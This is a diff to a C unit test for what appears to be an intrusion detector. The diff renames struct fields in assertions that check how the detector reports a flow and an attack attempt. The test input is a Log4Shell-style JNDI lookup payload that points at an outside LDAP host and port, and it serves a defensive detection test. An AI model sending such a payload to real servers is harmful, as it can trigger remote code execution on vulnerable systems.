@@ -424,12 +424,12 @@ static void sightings_tell_the_flow_and_the_attempt(void)
     give(&s, TO_SERVER, GET("${jndi:ldap://203.0.113.9:1389/a}"));
     CU_ASSERT_EQUAL_FATAL(s.n_sightings, 2);
     CU_ASSERT_EQUAL(s.sightings[0].kind, SIGHTING_FLOW_OPEN);
-    CU_ASSERT_EQUAL(s.sightings[0].port, 80);
+    CU_ASSERT_EQUAL(s.sightings[0].conn.port[TO_CLIENT], 80);
     CU_ASSERT_EQUAL(s.sightings[1].kind, SIGHTING_ATTEMPT);
     CU_ASSERT_STRING_EQUAL(s.sightings[1].name, "203.0.113.9");
-    CU_ASSERT_EQUAL(s.sightings[1].port, 1389);
-    CU_ASSERT(s.sightings[1].attack_id != 0);
-    CU_ASSERT_EQUAL(s.sightings[1].clock_us, s.conn.clock_us);
+    CU_ASSERT_EQUAL(s.sightings[1].attempt.port, 1389);
+    CU_ASSERT(s.sightings[1].attempt.attack_id != 0);
+    CU_ASSERT_EQUAL(s.sightings[1].key.clock_us, s.conn.clock_us);
     end(&s);
 }
 
